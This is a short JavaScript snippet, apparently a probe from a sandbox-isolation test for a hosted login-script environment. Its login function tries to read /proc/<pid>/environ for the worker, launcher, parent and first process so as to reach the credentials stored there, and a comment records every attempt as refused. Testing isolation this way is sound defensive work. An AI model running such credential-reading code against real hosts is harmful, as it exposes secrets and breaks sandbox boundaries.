// attack: read the worker's environment, where its credentials stand
// needs: fs
// came_to: {"worker":"refused","launcher":"refused","parent":"refused","first":"refused"}
function login(email, password, callback) {
  const read = (pid) => () => require('fs').readFileSync(`/proc/${pid}/environ`, 'latin1') && 'read';
  report(callback, {
    worker: read(configuration.worker),
    launcher: read(configuration.launcher),
    parent: read(process.ppid),
    first: read(1),
  });
}
